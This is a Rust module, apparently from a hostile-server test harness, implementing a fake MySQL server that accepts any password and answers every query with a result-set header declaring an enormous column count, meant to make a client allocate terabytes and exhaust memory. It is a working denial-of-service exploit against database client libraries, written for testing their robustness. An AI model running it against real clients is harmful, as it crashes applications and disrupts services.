//! A MySQL server (protocol 10, `mysql_native_password`, any password accepted) whose
//! every result set declares more columns than any memory could hold: a client that
//! sizes its column list from the declared count asks for terabytes at once.

use std::io::{self, Write};
use std::net::TcpStream;

use super::read_n;

/// What the server does to the client.
#[derive(Debug, Clone, Copy)]
pub enum MysqlAttack {
    /// Every query and executed statement answers with a result set of this many
    /// columns (and never sends them).
    DeclaredColumns(u64),
}

/// The capabilities offered: 4.1 protocol, secure connection, plugin auth, transactions,
/// multiple results, connect with a database.
const CAPABILITIES: u32 = 0x0000_0001 // LONG_PASSWORD
    | 0x0000_0004 // LONG_FLAG
    | 0x0000_0008 // CONNECT_WITH_DB
    | 0x0000_0200 // PROTOCOL_41
    | 0x0000_2000 // TRANSACTIONS
    | 0x0000_8000 // SECURE_CONNECTION
    | 0x0001_0000 // MULTI_STATEMENTS
    | 0x0002_0000 // MULTI_RESULTS
    | 0x0004_0000 // PS_MULTI_RESULTS
    | 0x0008_0000 // PLUGIN_AUTH
    | 0x0020_0000; // PLUGIN_AUTH_LENENC_CLIENT_DATA

fn write_packet(stream: &mut TcpStream, seq: u8, payload: &[u8]) -> io::Result<()> {
    let mut packet = (payload.len() as u32).to_le_bytes()[..3].to_vec();
    packet.push(seq);
    packet.extend_from_slice(payload);
    stream.write_all(&packet)
}

/// A packet's sequence number and payload.
fn read_packet(stream: &mut TcpStream) -> io::Result<(u8, Vec<u8>)> {
    let header = read_n(stream, 4)?;
    let length = u32::from_le_bytes([header[0], header[1], header[2], 0]) as usize;
    Ok((header[3], read_n(stream, length)?))
}

const OK: &[u8] = &[0x00, 0x00, 0x00, 0x02, 0x00, 0x00, 0x00];

fn greeting() -> Vec<u8> {
    let mut g = vec![10];
    g.extend_from_slice(b"8.0.0-hostile\0");
    g.extend_from_slice(&7u32.to_le_bytes()); // connection id
    g.extend_from_slice(b"abcdefgh\0"); // scramble, first part
    g.extend_from_slice(&(CAPABILITIES as u16).to_le_bytes());
    g.push(33); // utf8
    g.extend_from_slice(&0x0002u16.to_le_bytes()); // autocommit
    g.extend_from_slice(&((CAPABILITIES >> 16) as u16).to_le_bytes());
    g.push(21);
    g.extend_from_slice(&[0; 10]);
    g.extend_from_slice(b"ijklmnopqrst\0"); // scramble, second part
    g.extend_from_slice(b"mysql_native_password\0");
    g
}

/// A result-set header declaring `columns`.
fn column_count(columns: u64) -> Vec<u8> {
    let mut p = vec![0xfe];
    p.extend_from_slice(&columns.to_le_bytes());
    p
}

pub(super) fn answer(mut stream: TcpStream, attack: MysqlAttack) -> io::Result<()> {
    let MysqlAttack::DeclaredColumns(columns) = attack;
    write_packet(&mut stream, 0, &greeting())?;
    let (seq, _handshake_response) = read_packet(&mut stream)?;
    write_packet(&mut stream, seq + 1, OK)?;
    let mut statement_id = 0u32;
    loop {
        let (seq, command) = read_packet(&mut stream)?;
        match command.first() {
            // COM_QUIT
            Some(0x01) => return Ok(()),
            // COM_QUERY, COM_STMT_EXECUTE: the attack.
            Some(0x03 | 0x17) => write_packet(&mut stream, seq + 1, &column_count(columns))?,
            // COM_STMT_PREPARE: a statement without parameters or columns.
            Some(0x16) => {
                statement_id += 1;
                let mut p = vec![0x00];
                p.extend_from_slice(&statement_id.to_le_bytes());
                p.extend_from_slice(&[0, 0, 0, 0, 0, 0, 0]);
                write_packet(&mut stream, seq + 1, &p)?;
            }
            // COM_STMT_CLOSE: no answer.
            Some(0x19) => {}
            _ => write_packet(&mut stream, seq + 1, OK)?,
        }
    }
}
